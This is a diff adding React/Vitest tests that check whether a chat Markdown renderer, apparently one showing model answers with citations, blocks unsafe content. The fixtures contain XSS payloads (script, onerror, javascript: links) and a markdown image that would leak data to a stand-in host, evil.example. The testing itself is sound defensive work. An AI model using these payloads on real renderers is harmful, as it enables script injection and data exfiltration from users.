@@ -1,0 +1,80 @@
+// @vitest-environment happy-dom
+
+import { act } from 'react'
+import { createRoot } from 'react-dom/client'
+import { expect, test } from 'vitest'
+import { TooltipProvider } from '@/components/ui/tooltip'
+import { type Citation, citationsOf } from './citations'
+import { Markdown } from './markdown'
+
+Reflect.set(globalThis, 'IS_REACT_ACT_ENVIRONMENT', true)
+
+function render(
+  text: string,
+  citations: Citation[] = [],
+  onCite: (citation: Citation) => void = () => {},
+): HTMLElement {
+  const holder = document.createElement('div')
+  act(() =>
+    createRoot(holder).render(
+      <TooltipProvider>
+        <Markdown text={text} citations={citations} onCite={onCite} />
+      </TooltipProvider>,
+    ),
+  )
+  return holder
+}
+
+const citation: Citation = {
+  number: 1,
+  chunkId: 'c',
+  documentName: 'Handbook.pdf',
+  page: 3,
+  start: 0,
+  end: 5,
+  quote: 'Hello',
+}
+
+test('T34 HTML in a model’s text is not markup', () => {
+  const html = render('<script>alert(1)</script><img src=x onerror=alert(1)> <b>hi</b>\n\n<iframe src="//x"></iframe>')
+  expect(html.querySelectorAll('script, img, iframe, b')).toHaveLength(0)
+})
+
+test('T34 a picture from elsewhere becomes its words, a picture of ours stays', () => {
+  const own = '/api/files/0190a000-0000-7000-8000-000000000001'
+  const html = render(`![leak](https://evil.example/?q=secret) ![own](${own})`)
+  expect([...html.querySelectorAll('img')].map((image) => image.getAttribute('src'))).toEqual([own])
+  expect(html.textContent).toContain('leak')
+})
+
+test('T34 links go to http, https and mailto only and carry no opener', () => {
+  const html = render('[a](javascript:alert(1)) [b](https://example.com) [c](//evil.example) [d](data:text/html,x)')
+  const links = [...html.querySelectorAll('a')]
+  expect(links.map((link) => link.getAttribute('href'))).toEqual(['https://example.com'])
+  expect(links[0]?.getAttribute('rel')).toBe('noopener noreferrer nofollow')
+})
+
+test('a number in brackets is a citation when the answer has it, and opens it', () => {
+  const opened: Citation[] = []
+  const html = render('Yes [1], no [2], `code [1]`.', [citation], (found) => opened.push(found))
+  const chips = html.querySelectorAll('button')
+  expect([...chips].map((chip) => chip.textContent)).toEqual(['1'])
+  expect(html.textContent).toContain('no [2]')
+  act(() => chips[0]?.click())
+  expect(opened).toEqual([citation])
+})
+
+test('tables, lists and code are drawn', () => {
+  const html = render('| a | b |\n|---|---|\n| 1 | 2 |\n\n- x\n\n```js\nlet a\n```')
+  expect([html.querySelectorAll('td').length, html.querySelectorAll('li').length]).toEqual([2, 1])
+  expect(html.querySelector('pre')?.textContent).toBe('let a')
+})
+
+test('citations are read from outputs, passages stand in where nothing is cited, junk is left out', () => {
+  expect(citationsOf({ citations: [{ ...citation, documentId: 'd' }, 'junk', { number: 'x' }] })).toEqual([citation])
+  const passage = { chunkId: 'c', documentName: 'A.md', page: null, start: 1, end: 2, text: 'T', score: 1 }
+  expect(citationsOf({ citations: [], documents: [passage] })).toEqual([
+    { chunkId: 'c', documentName: 'A.md', page: null, start: 1, end: 2, number: 1, quote: 'T' },
+  ])
+  expect(citationsOf(null)).toEqual([])
+})
